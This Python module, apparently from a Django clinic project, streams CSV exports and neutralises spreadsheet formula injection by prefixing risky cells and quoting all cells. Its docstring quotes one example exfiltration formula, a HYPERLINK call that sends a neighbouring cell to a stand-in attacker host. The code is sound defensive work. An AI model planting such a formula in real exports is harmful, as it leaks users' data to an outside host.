"""CSV files that a spreadsheet opens as text: no cell becomes a live formula.

Every CSV export goes through this module (``tests/clinic/test_csv_safe.py`` checks that no
other module calls ``csv.writer``). Values people control reach the exports - a browser's
user agent, a name, a reason typed into a form - and a cell starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is run as a formula by Excel and LibreOffice
(``=HYPERLINK("http://evil.example/?leak="&A2, ...)`` sends the row next to it away when
clicked). Such a cell gets a leading ``'``, which spreadsheets show as text (OWASP's advice for
CSV injection). Every cell is also quoted, so a ``;`` inside a value cannot start a new cell
when a spreadsheet splits on semicolons.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any, Protocol

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """``value`` as a cell that cannot start a formula; numbers and ``None`` pass unchanged.

    Anything else is written as its text (as ``csv.writer`` would), so a lazy string or a
    model's ``__str__`` is checked too.
    """
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class Writable(Protocol):
    def write(self, value: str, /) -> object: ...


class _Line:
    """A file-like object whose ``write`` hands back the line, for streaming responses."""

    def write(self, value: str) -> str:
        return value


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`spreadsheet_safe`."""

    def __init__(self, stream: Writable) -> None:
        self._writer = csv.writer(stream, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[object]) -> Any:  # what the stream's write returns
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_lines(*, header: Sequence[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The header and each row as CSV text lines, made safe, one at a time."""
    writer = SafeWriter(_Line())
    yield writer.writerow(header)
    for row in rows:
        yield writer.writerow(row)


def csv_download(
    *, filename: str, header: Sequence[str], rows: Iterable[Iterable[object]]
) -> StreamingHttpResponse:
    """A CSV attachment streamed row by row (exports can be large)."""
    response = StreamingHttpResponse(
        csv_lines(header=header, rows=rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
